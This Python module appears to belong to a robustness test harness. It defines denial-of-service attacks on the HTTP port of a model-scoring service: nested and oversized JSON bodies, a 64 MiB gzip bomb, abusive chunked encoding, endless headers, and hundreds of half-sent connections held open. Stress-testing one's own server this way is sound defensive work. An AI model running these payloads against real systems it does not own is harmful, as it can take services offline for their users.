"""Attacks on the HTTP port: bodies that cost more than they look, and connections that never end what they began."""

import json
import socket
import ssl
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress

from attacks.stranger import Target

__all__ = ["HTTP_ATTACKS"]

_MIB = 1 << 20
_FULL = 4 * _MIB - 64  # the largest body that is taken
_HEAD = b"POST /v1/models/cancer:score HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
_CHUNKED = _HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
Run = Callable[[Target], None]


def _dial(target: Target) -> socket.socket:
    """A connection to the HTTP port."""
    plain = target.connect(target.http_address)
    if target.certificate is None:
        return plain
    context = ssl.create_default_context(cafile=str(target.certificate))
    return context.wrap_socket(plain, server_hostname="localhost")


def _together(count: int, work: Run) -> Run:
    """The same on so many connections at once, again and again."""

    def again(target: Target) -> None:
        while time.monotonic() < target.until:
            with suppress(OSError):  # that it is sent away is what it has to expect
                work(target)

    def run(target: Target) -> None:
        threads = [threading.Thread(target=again, args=(target,)) for _ in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    return run


def _bodies(count: int, make: Callable[[], bytes], more: bytes = b"") -> Run:
    """Sends a whole body and reads what is said to it, again and again."""

    def ask(target: Target) -> None:
        body = make()
        with _dial(target) as one:
            one.settimeout(target.left_s)
            one.sendall(_HEAD + more + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
            while one.recv(65_536):
                pass

    return _together(count, ask)


def _streams(count: int, begun: bytes, piece: bytes) -> Run:
    """Sends one piece after the other, and reads nothing."""

    def send(target: Target) -> None:
        with _dial(target) as one:
            one.settimeout(target.left_s)
            one.sendall(begun)
            while time.monotonic() < target.until:
                one.sendall(piece)

    return _together(count, send)


def _held(count: int, said: bytes) -> Run:
    """So many connections that say so much, and then nothing."""

    def hold(target: Target) -> None:
        with ExitStack() as held:
            for _ in range(count):
                with suppress(OSError):
                    held.enter_context(_dial(target)).sendall(said)
            time.sleep(target.left_s)

    return hold


def _repeated(start: bytes, piece: bytes, end: bytes) -> Callable[[], bytes]:
    return lambda: start + piece * ((_FULL - len(start) - len(end)) // len(piece)) + end


def _other_names() -> bytes:
    rows = [{f"n{row}": 1} for row in range(150_000)]
    return json.dumps({"rows": rows}).encode()


def _bomb(inflated: int) -> Callable[[], bytes]:
    def pieces() -> Iterator[bytes]:
        packer = zlib.compressobj(1, wbits=31)
        for _ in range(inflated // _MIB):
            yield packer.compress(bytes(_MIB))
        yield packer.flush()

    packed = b"".join(pieces())
    return lambda: packed


HTTP_ATTACKS: dict[str, Run] = {
    "deep JSON": _bodies(8, _repeated(b'{"columns": {"x": ', b"[", b"")),
    "two million values in JSON": _bodies(8, _repeated(b'{"columns": {"x": [0', b",0", b"]}}")),
    "a million empty rows in JSON": _bodies(8, _repeated(b'{"rows": [{}', b",{}", b"]}")),
    "rows of other names in JSON": _bodies(8, _other_names),
    "numbers of 4,000 digits in JSON": _bodies(8, _repeated(b'{"columns": {"x": [0', b"," + b"9" * 4000, b"]}}")),
    "a text without an end in JSON": _bodies(8, _repeated(b'{"columns": {"x": ["', b'\\"', b"")),
    "a gzip body of 64 MiB": _bodies(4, _bomb(64 * _MIB), b"Content-Encoding: gzip\r\n"),
    "chunks of a byte": _streams(4, _CHUNKED, b"1\r\n \r\n" * 10_000),
    "chunks without an end": _streams(4, _CHUNKED, b"10000\r\n" + b" " * 65_536 + b"\r\n"),
    "a chunk's length without an end": _streams(4, _CHUNKED + b"1;", b"x" * 65_536),
    "a head without an end": _streams(4, _HEAD, b"X: y\r\n" * 1000),
    "requests that nobody reads the answers of": _streams(
        4, b"", b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 100
    ),
    "half-sent bodies": _held(200, _HEAD + b"Content-Length: 4000000\r\n\r\n" + b" " * 65_536),
}
